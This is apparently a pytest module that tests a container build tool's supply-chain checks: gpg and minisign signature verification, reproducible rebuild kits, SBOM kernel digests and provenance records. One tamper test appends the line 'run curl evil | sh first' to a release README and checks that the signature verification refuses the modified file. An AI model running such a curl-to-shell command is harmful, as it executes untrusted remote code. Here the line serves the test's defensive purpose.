"""The supply chain on the real engine: a signed release that gpg, minisign, build.py verify --key and
verify-release.sh --key accept and refuse once tampered; the reconstruct kit, unpacked in an empty
folder, rebuilding to the released image ID; and the example product's SBOM, whose kernel digests
are those of the files in the image."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from ..conftest import REPO, run


def unpack(kit: Path, into: Path) -> Path:
    into.mkdir()
    tar = subprocess.run(f"zstd -dc {kit} | tar -x -C {into}", shell=True, capture_output=True, text=True)
    assert tar.returncode == 0, tar.stderr
    (folder,) = into.iterdir()
    return folder


def test_a_signed_release_and_its_kit_rebuilt_in_an_empty_folder(cli, engine, busybox_product, version, images,
                                                                  tmp_path, gpg_home, minisign_key):
    env, public = gpg_home
    secret, minisign_public = minisign_key
    images(f"unibake-test:{version}")
    images(f"unibake-kit/unibake-test:{version}")
    out = tmp_path / "release"
    result = cli("--config", str(busybox_product), "--version", version, "--out", str(out), "--no-roundtrip",
                 "--sign", "signer@example.invalid", "--sign-minisign", str(secret), env={"CI": "true", **env})
    assert result.code == 0, result.err
    folder = out / version
    kit = f"unibake-test-{version}-kit.tar.zst"
    assert {kit, "sbom.cdx.json", "provenance.intoto.json", "SHA256SUMS.asc", "SHA256SUMS.minisig"} <= set(
        os.listdir(folder))
    assert f"  {kit}\n" in (folder / "SHA256SUMS").read_text()
    image_id = (folder / "IMAGE_ID").read_text().strip()

    # the signature, four ways; then SHA256SUMS rewritten to match a changed file: sha256sum -c passes, none of them
    script = REPO / "scripts/verify-release.sh"
    assert run("gpg", "--verify", "SHA256SUMS.asc", "SHA256SUMS", env=env, cwd=folder).returncode == 0
    assert cli("verify", str(folder), "--key", str(public)).code == 0
    assert run(str(script), str(folder), "--no-load", "--key", str(public)).returncode == 0
    assert run(str(script), str(folder), "--no-load", "--key", str(minisign_public)).returncode == 0
    sums = (folder / "SHA256SUMS").read_text()
    readme = folder / "README-DIST.md"
    readme.write_text(readme.read_text() + "\nrun curl evil | sh first\n")
    digest = run("sha256sum", "README-DIST.md", cwd=folder).stdout.split()[0]
    lines = [f"{digest}  README-DIST.md" if line.endswith("  README-DIST.md") else line for line in sums.splitlines()]
    (folder / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    assert run("sha256sum", "--quiet", "-c", "SHA256SUMS", cwd=folder).returncode == 0
    assert run("gpg", "--verify", "SHA256SUMS.asc", "SHA256SUMS", env=env, cwd=folder).returncode != 0
    tampered = cli("verify", str(folder), "--key", str(public))
    assert tampered.code == 3 and "SHA256SUMS.asc: signature check failed: BAD" in tampered.error_lines[-1]
    for key in (public, minisign_public):
        refused = run(str(script), str(folder), "--no-load", "--key", str(key))
        assert refused.returncode == 3 and "is not a good signature of SHA256SUMS" in refused.stderr
    (folder / "SHA256SUMS").write_text(sums)

    # the kit, unpacked in an empty folder: its ledger, then a rebuild on this engine (a fresh venv from its pins)
    kit_folder = unpack(folder / kit, tmp_path / "empty")
    assert run("./verify.sh", cwd=kit_folder).returncode == 0
    rebuilt = run("./verify.sh", "--rebuild", cwd=kit_folder, env={"UNIBAKE_PYTHON": ""})
    assert rebuilt.returncode == 0, rebuilt.stdout[-2000:] + rebuilt.stderr[-3000:]
    assert "identical" in rebuilt.stderr and image_id in rebuilt.stderr
    assert engine.inspect_image(f"unibake-kit/unibake-test:{version}").id == image_id
    profile = kit_folder / "profiles/tp1.yaml"
    profile.write_text(profile.read_text() + "# edited\n")
    edited = run("./verify.sh", cwd=kit_folder)
    assert edited.returncode == 3 and "profiles/tp1.yaml: FAILED" in edited.stdout + edited.stderr

    # the kit written again from the checkout is the one published, byte for byte
    again = cli("kit", str(folder), "--out", str(tmp_path / "again"), "--config", str(busybox_product))
    assert again.code == 0, again.err
    assert (tmp_path / "again" / kit).read_bytes() == (folder / kit).read_bytes()
    tune = busybox_product.parent / "images/tune/tp1"
    changed = next(p for p in sorted(tune.iterdir()) if p.suffix == ".json")
    changed.write_text(changed.read_text() + " ")
    assert cli("lock", "--config", str(busybox_product)).code == 0
    refused = cli("kit", str(folder), "--out", str(tmp_path / "third"), "--config", str(busybox_product))
    assert refused.code == 2 and f"input {changed.relative_to(busybox_product.parent)} differs" in \
        refused.error_lines[-1]
    assert not (tmp_path / "third" / kit).exists()


def test_the_demo_sbom_validates_its_kernel_digests_are_the_files_in_the_image_and_its_kit_rebuilds(
        cli, engine, demo_product, version, images, tmp_path):
    tag = f"demo-llm:{version}"
    images(tag)
    images(f"unibake-kit/demo-llm:{version}")
    out = tmp_path / "release"
    result = cli("--config", str(demo_product), "--version", version, "--out", str(out), "--no-roundtrip")
    assert result.code == 0, result.err
    text = (out / version / "sbom.cdx.json").read_text()
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    sbom = json.loads(text)
    image = engine.inspect_image(tag)
    assert sbom["metadata"]["component"]["hashes"][0]["content"] == image.id.removeprefix("sha256:")
    libraries = {}
    for c in sbom["components"]:
        props = {p["name"]: p["value"] for p in c.get("properties", [])}
        if props.get("unibake:kind") in ("kernel", "sidecar"):
            libraries[props["unibake:path"]] = c["hashes"][0]["content"]
    assert sorted(libraries) == ["/opt/unibake/kernels/demo_quant/demo_quant/libdemo_quant.so",  # the prebuilt wheel's
                                 "/opt/unibake/kernels/flash_attn/libflash_attn.so",
                                 "/opt/unibake/kernels/rmsnorm/librmsnorm.so",
                                 "/opt/unibake/kernels/rope/librope.so",  # built by g++
                                 "/opt/unibake/profiles/tp2/kernels/flash_attn/libflash_attn.so"]
    in_image = engine.run(tag, ["sha256sum", *sorted(libraries)])
    assert in_image.exit_code == 0, in_image.output
    assert {path: digest for digest, path in (line.split() for line in in_image.output.splitlines())} == libraries
    debs = {c["name"]: c for c in sbom["components"] if c.get("purl", "").startswith("pkg:deb/debian/")}
    assert "python3" in debs and "libc6" in debs and debs["libc6"]["purl"].endswith("distro=debian-12")
    base = next(c for c in sbom["components"] if c["bom-ref"] == "base-image")
    assert base["name"] == "localhost/unibake-demo-base:bookworm"
    assert base["version"] == engine.inspect_image("localhost/unibake-demo-base:bookworm").id
    statement = json.loads((out / version / "provenance.intoto.json").read_text())
    roles = {d["annotations"]["role"] for d in statement["predicate"]["buildDefinition"]["resolvedDependencies"]}
    assert {"input", "profile", "lock", "base image", "builder image"} <= roles

    # the kit rebuilds the kernels' builder stage too, cold, to the released ID (the test's own Python: no venv)
    kit_folder = unpack(out / version / f"demo-llm-{version}-kit.tar.zst", tmp_path / "empty")
    rebuilt = run("./verify.sh", "--rebuild", cwd=kit_folder, env={"UNIBAKE_PYTHON": sys.executable})
    assert rebuilt.returncode == 0, rebuilt.stdout[-2000:] + rebuilt.stderr[-3000:]
    assert engine.inspect_image(f"unibake-kit/demo-llm:{version}").id == image.id


def test_a_kernel_compiled_in_its_own_toolchain_image_is_a_material_and_the_kit_rebuild_needs_it(
        cli, engine, busybox_product, version, images, tmp_path):
    # a kernel whose build.image is not the product's builder: the provenance, kit.json and the kit's
    # README name it by ID, `build.py kit` finds it in the provenance, and the rebuild refuses another image
    toolchain = f"localhost/unibake-toolchain-test:{version}"
    for ref in (toolchain, f"unibake-test:{version}", f"unibake-kit/unibake-test:{version}"):
        images(ref)
    builder = engine.inspect_image("localhost/unibake-demo-builder:bookworm")
    engine.api.tag(builder.id, *toolchain.rsplit(":", 1))
    root = busybox_product.parent
    (root / "images/tk").mkdir()
    (root / "images/tk/tk.c").write_text("int tk(void) { return 1; }\n")
    product = busybox_product / "product.yaml"
    product.write_text(product.read_text().replace('"localhost/unibake-busybox:1"', '"localhost/unibake-demo-base:bookworm"')
                       + "kernels:\n  - {name: tk, version: '1.0', source: images/tk, build: {image: \"" + toolchain
                       + "\", run: \"cc -shared -fPIC -o $OUT/libtk.so $SRC/tk.c\"}}\n")
    assert cli("lock", "--config", str(busybox_product)).code == 0
    out = tmp_path / "release"
    result = cli("--config", str(busybox_product), "--version", version, "--out", str(out), "--no-roundtrip")
    assert result.code == 0, result.err
    folder = out / version
    statement = json.loads((folder / "provenance.intoto.json").read_text())
    named = {d["name"]: (d["annotations"]["role"], d["digest"]["sha256"])
             for d in statement["predicate"]["buildDefinition"]["resolvedDependencies"]}
    assert named[toolchain] == ("toolchain image", builder.id.removeprefix("sha256:"))
    kit = f"unibake-test-{version}-kit.tar.zst"
    kit_folder = unpack(folder / kit, tmp_path / "unpacked")
    assert json.loads((kit_folder / "kit.json").read_text())["toolchains"] == [{"ref": toolchain,
                                                                              "image_id": builder.id}]
    assert f"| Toolchain image | `{toolchain}` as `{builder.id}` |" in (kit_folder / "README.md").read_text()

    again = cli("kit", str(folder), "--out", str(tmp_path / "again"), "--config", str(busybox_product))
    assert again.code == 0, again.err
    assert (tmp_path / "again" / kit).read_bytes() == (folder / kit).read_bytes()

    other = engine.inspect_image("localhost/unibake-busybox:1")
    engine.api.tag(other.id, *toolchain.rsplit(":", 1))  # the ref now names another image: refused before building
    refused = cli("rebuild", str(kit_folder))
    assert refused.code == 2 and f"the toolchain image {toolchain} is {other.id} in the engine" in \
        refused.error_lines[-1] and f"was built on {builder.id}" in refused.error_lines[-1]
    engine.api.tag(builder.id, *toolchain.rsplit(":", 1))
    rebuilt = cli("rebuild", str(kit_folder))
    assert rebuilt.code == 0, rebuilt.err
    assert engine.inspect_image(f"unibake-kit/unibake-test:{version}").id == (folder / "IMAGE_ID").read_text().strip()


def test_a_kit_rebuild_names_the_build_cache_it_leaves_in_the_engine(cli, engine, busybox_product, version, images,
                                                                     tmp_path):
    # the rebuild tags the image before normalising as build cache: a downloader who rebuilt a kit was
    # told of unibake-kit/... only, and found unibake-cache/...:kit-<release>-build in the engine after
    from unibake.kit import kit_name, write_kit
    from unibake.plan import make_plan
    from unibake.render import render
    from unibake.sbom import BaseImage

    base = engine.inspect_image("localhost/unibake-busybox:1")
    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    (tmp_path / "out").mkdir()
    name = kit_name(plan.product, version)
    write_kit(tmp_path / "out", name, plan=plan, context=render(plan), release=version, image_id="sha256:" + "e" * 64,
              diff_ids=("sha256:" + "1" * 64,), epoch=1700000000, revision="abc",
              base=BaseImage(ref="localhost/unibake-busybox:1", image_id=base.id), builder=None)
    folder = unpack(tmp_path / "out" / name, tmp_path / "unpacked")
    images(f"unibake-kit/unibake-test:{version}")
    cache = f"unibake-cache/unibake-test:kit-{version}-build"
    images(cache)
    rebuilt = cli("--json", "rebuild", str(folder))
    assert rebuilt.code == 3  # another image ID than the made-up one the kit names
    document = json.loads(rebuilt.out)
    assert document["build_cache"] == [cache] and engine.inspect_image(cache) is not None
    assert f"{cache} (build.py prune removes it)" in rebuilt.err
